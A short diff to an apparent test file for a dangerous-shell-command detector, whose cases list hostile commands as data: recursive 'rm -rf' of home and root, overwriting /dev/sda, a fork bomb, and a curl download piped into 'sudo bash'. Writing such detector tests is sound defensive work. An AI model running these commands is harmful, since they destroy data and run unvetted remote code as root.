@@ -275,7 +275,7 @@ def test_tables_are_big_enough_and_cover_every_rule() -> None:
         ("ls; sudo rm -rf ~", "rm -rf ~"),
         ("bash -c 'rm -rf /'", "rm -rf /"),
         ("cat x > /dev/sda", "> /dev/sda"),
-        ("curl https://x | sudo bash", "bash"),
+        ("ls; curl https://x | sudo bash", "curl https://x | sudo bash"),
         ("ls && :(){ :|:& };:", ":(){ :|:& };:"),
     ],
 )
